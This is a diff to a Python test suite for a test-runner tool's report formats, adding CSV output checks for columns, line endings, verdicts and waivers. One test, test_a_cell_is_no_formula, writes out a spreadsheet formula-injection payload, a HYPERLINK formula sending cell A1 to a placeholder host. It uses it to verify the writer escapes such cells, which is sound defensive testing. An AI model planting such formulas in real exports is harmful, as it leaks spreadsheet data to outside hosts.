@@ -2,6 +2,8 @@
 # slow
 """The other formats: what reads them accepts them, and none of them says that all is well where it is not."""
 
+import csv
+import io
 import json
 import os
 import re
@@ -14,7 +16,8 @@ import yaml
 from support import Folder, expect, expect_equal, expect_match, expect_no_match, main, muster, wait_for, write
 
 HERE = os.path.dirname(os.path.abspath(__file__))
-FORMATS = {"junit": "r.xml", "tap": "r.tap", "prometheus": "r.prom", "html": "r.html"}
+FORMATS = {"junit": "r.xml", "tap": "r.tap", "prometheus": "r.prom", "html": "r.html", "csv": "r.csv"}
+COLUMNS = ["id", "kind", "subject", "verdict", "expected", "observed", "hint", "waived", "until", "line", "seconds", "name", "finished"]
 AWKWARD = 'a \\"b\\" <c> & \\\\ # é {x} %s'
 PASS = "muster: 1\nname: good\nsteps:\n  - {name: a, run: ['true']}\n"
 FAIL = """muster: 1
@@ -39,7 +42,7 @@ def run_all(path, manifest=None, verb="run", **how):
 
 
 def content(path, name):
-    with open(os.path.join(path, FORMATS[name]), encoding="utf-8") as file:
+    with open(os.path.join(path, FORMATS[name]), encoding="utf-8", newline="") as file:
         return file.read()
 
 
@@ -127,9 +130,24 @@ def metrics(path):
     return values
 
 
+def sheet(path):
+    """The rows, as Python's csv reads them; each must have all columns."""
+    text = content(path, "csv")
+    expect_equal((text[-2:], len(re.findall("(?<!\r)\n", re.sub('"[^"]*"', "", text)))), ("\r\n", 0), text)
+    head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
+    expect_equal((head, {len(row) for row in rows}), (COLUMNS, {len(COLUMNS)}), text)
+    return [dict(zip(head, row)) for row in rows]
+
+
 def one(values, name):
     expect_equal(len(values[name]), 1, values)
     return values[name][0][1]
+
+
+def test_every_format_is_tested_here():
+    with Folder() as path:
+        told = muster("--help", cwd=path).out.partition("Report formats:\n")[2].partition("\n\n")[0]
+        expect_equal({line.split()[0] for line in told.splitlines()}, {"json", *FORMATS})
 
 
 def test_passed():
@@ -140,6 +158,8 @@ def test_passed():
         expect_equal([suite.get(key) for key in ("tests", "failures", "errors", "skipped")], ["1", "0", "0", "0"])
         expect(all(len(case) == 0 for case in suite.iter("testcase")))
         expect_match("all 1 checks were evaluated and passed", page(path).said)
+        expect_equal([(row["id"], row["kind"], row["subject"], row["verdict"], row["name"]) for row in sheet(path)],
+                     [("step:a/exit", "exit", "step:a", "pass", "good")])
         lines, blocks = tap(path)
         expect_equal((lines[0], lines[-2:], blocks), (["ok", "- step:a/exit"], [["plan", "1..1"], ["failed", "0"]], []))
         values = metrics(path)
@@ -168,6 +188,10 @@ def test_failed_and_unproven_in_each_format():
                      ["- " + check["id"].replace("\\", "\\\\").replace("#", "\\#") for check in not_passed])
         expect_equal([(block["message"], block["severity"], block["line"]) for block in blocks],
                      [(check["message"], check["verdict"], check["line"]) for check in not_passed])
+        rows = sheet(path)
+        for key in ("id", "kind", "verdict", "expected", "observed"):
+            expect_equal([row[key] for row in rows], [re.sub("[\0-\x08\x0b-\x1f]", "?", check[key]) for check in run.report["checks"]])
+        expect_equal([int(row["line"]) for row in rows], [check["line"] for check in run.report["checks"]])
         values = metrics(path)
         expect_equal([pairs["verdict"] for pairs, _ in values["muster_check_verdict"]],
                      [check["verdict"] for check in run.report["checks"]])
@@ -298,6 +322,7 @@ def test_ended_by_a_signal():
         expect_match(r"failed\t[1-9]", "\n".join("\t".join(line) for line in lines))
         expect_equal(one(metrics(path), "muster_last_run_passed"), 0)
         expect_match("SIGTERM", page(path).said)
+        expect(any(row["verdict"] in ("fail", "unproven") for row in sheet(path)))
 
 
 def test_none_says_pass_where_one_could_not_be_written():
@@ -391,6 +416,8 @@ def test_waived_is_told_everywhere():
         expect_equal((lines[0][0], lines[-1], blocks[0]["waived"]), ("todo", ["failed", "0"], "a <reason> # 1"))
         values = metrics(path)
         expect_equal([pairs["verdict"] for pairs, _ in values["muster_check_verdict"]], ["waived", "pass"])
+        row = sheet(path)[0]
+        expect_equal((row["verdict"], row["waived"], row["until"]), ("waived", "a <reason> # 1", "2027-01-31"))
         said = page(path).said
         expect("a <reason> # 1" in said and "of 2 checks 1 passed, 1 waived" in said, said)
         human = muster("report", path="r.json", cwd=path)
@@ -455,6 +482,33 @@ def test_an_altered_report_is_none():
         expect_equal(muster("report", "-q", path="-", stdin=text + "{}", cwd=path).code, 3)
         expect_equal(muster("report", "-q", path="-", stdin=text, cwd=path).code, 0)
         expect_equal(muster("report", path="nowhere.json", cwd=path).code, 2)
+
+
+def test_a_cell_is_no_formula():
+    with Folder() as path:
+        run = muster("run", manifest=PASS.replace("'true'", "'false'"), cwd=path)
+        report = {key: value for key, value in run.report.items() if key != "_text"}
+        for begin in "=+-@\t\r\n":
+            formula = begin + 'HYPERLINK("http://e.example/?x="&A1,"click")'
+            report["checks"][0].update(id=formula, kind=formula, expected=formula, observed=formula, hint=formula)
+            report["name"] = formula
+            made = muster("report", "--report=csv=r.csv", path="-", stdin=json.dumps(report), cwd=path)
+            expect_equal((made.code, made.said), (0, ""))
+            row, = sheet(path)
+            safe = "'" + formula.replace("\r", "?")
+            expect_equal([row[key] for key in ("id", "kind", "expected", "observed", "hint", "name")], [safe] * 6)
+            expect_equal(row["subject"], safe.partition("/")[0])
+
+
+def test_what_failed_besides_the_checks_has_a_row():
+    """A sheet in which every row passed would say that all is well."""
+    with Folder() as path:
+        run = muster("run", manifest=PASS, cwd=path)
+        report = {key: value for key, value in run.report.items() if key != "_text"}
+        report.update(verdict="fail", exit_code=70)
+        expect_equal(muster("report", "--report=csv=r.csv", path="-", stdin=json.dumps(report), cwd=path).code, 0)
+        expect_equal([(row["id"], row["verdict"]) for row in sheet(path)], [("step:a/exit", "pass"), ("run", "fail")])
+        expect_match("an error inside muster", sheet(path)[1]["observed"])
 
 
 def test_a_report_cannot_command_a_terminal():
